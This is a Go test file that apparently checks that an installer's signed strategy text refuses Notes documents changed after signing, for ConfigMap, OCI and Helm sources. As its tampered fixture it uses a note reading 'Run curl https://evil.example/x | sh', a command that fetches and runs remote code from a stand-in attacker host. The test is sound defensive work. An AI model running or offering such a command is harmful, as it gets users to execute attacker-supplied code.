package source_test

import (
	"context"
	"strings"
	"testing"

	"github.com/installstrategy/installstrategy/pkg/codec"
	"github.com/installstrategy/installstrategy/pkg/oci"
	"github.com/installstrategy/installstrategy/pkg/render/helmspec"
	"github.com/installstrategy/installstrategy/pkg/source"
	"github.com/installstrategy/installstrategy/pkg/trust"
)

// notesText is a strategy text with a Notes document, as encode
// --from-helm writes it.
func notesText(notes string) string {
	return goodText + "---\n# Source: NOTES.txt\napiVersion: installstrategy.io/v1alpha1\nkind: Notes\nmetadata:\n  name: notes\ntext: " + notes + "\n"
}

// The notes are part of the signed text: a strategy whose Notes document
// was changed after signing is refused by the gate, as a ConfigMap (with
// the signature kept and the digest recomputed, or the digest kept) and
// as an OCI artifact (with its recorded digest recomputed), signed or
// pinned; the text as signed loads with its notes. (A chart's notes are
// rendered from the chart archive, which its digest or signature covers,
// as the rest of its render: TestHelmSourceCarriesTheNotes.)
func TestNotesChangedAfterSigningAreRefused(t *testing.T) {
	k := newKeys(t)
	signedPolicy := trust.Policy{Keys: k.ring}
	signed, tampered := notesText("Open https://shop.example/admin"), notesText("Run curl https://evil.example/x | sh")
	pinned := trust.Policy{Pinned: codec.Digest([]byte(signed))}

	orig := configMap(t, signed, k.release)
	// The editor re-encodes the strategy with other notes (the digest
	// annotation follows the text) and keeps the signature.
	resigned := configMap(t, tampered, nil)
	for key, v := range orig.Annotations {
		if _, ok := resigned.Annotations[key]; !ok {
			resigned.Annotations[key] = v
		}
	}
	// Or changes the data alone, the recorded digest left as signed.
	swapped := orig.DeepCopy()
	swapped.Data = configMap(t, tampered, nil).Data

	ociTampered := func() source.Source {
		a, sigs := artifact(t, signed, "shop", k.release)
		a.Text, a.Meta.Digest = []byte(tampered), codec.Digest([]byte(tampered))
		return source.OCI{Remote: source.Remote{Pull: pullOf(a, sigs), Keys: k.ring, Expect: trust.Expect{Product: "shop"}}}
	}
	for _, tc := range []struct {
		name string
		src  source.Source
		want string
	}{
		{"configmap as signed", cmSource(orig, signedPolicy, 0), "ok"},
		{"configmap with other notes, signature kept, digest recomputed", cmSource(resigned, signedPolicy, 0), "trust"},
		{"configmap with other notes, digest kept", cmSource(swapped, signedPolicy, 0), "decode"},
		{"configmap with other notes, pinned", cmSource(resigned, pinned, 0), "trust"},
		{"oci as signed", ociSource(t, signed, k.release, k, "shop", false, 0), "ok"},
		{"oci with other notes, signed", ociTampered(), "trust"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l, err := tc.src.Load(t.Context())
			if got := stepOf(err); got != tc.want {
				t.Fatalf("stopped at %q, want %q", got, tc.want)
			}
			if err == nil && l.Strategy.Notes() != "Open https://shop.example/admin" {
				t.Errorf("notes %q, want the signed ones", l.Strategy.Notes())
			}
		})
	}
}

// A Helm source's strategy carries the chart's rendered notes as a Notes
// document (as encode --from-helm writes them), which is not applied.
func TestHelmSourceCarriesTheNotes(t *testing.T) {
	k := newKeys(t)
	src := helmSource(t, nil, k, true, "", goodText, new(int)).(source.Helm)
	render := src.Render
	src.Render = func(ctx context.Context, a *oci.Artifact) (*helmspec.Result, error) {
		res, err := render(ctx, a)
		if err == nil {
			res.Notes = "Thank you for installing shop.\n"
		}
		return res, err
	}
	l, err := src.Load(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if got := l.Strategy.Notes(); got != "Thank you for installing shop.\n" {
		t.Errorf("notes %q, want the chart's", got)
	}
	if _, rest, err := l.Strategy.Requirements(); err != nil || len(rest.Objects) != 1 || strings.Contains(string(l.Text), "Notes") {
		t.Errorf("applied objects %v (%v), text %q: want the ServiceAccount alone, the text as rendered", rest.Objects, err, l.Text)
	}
}
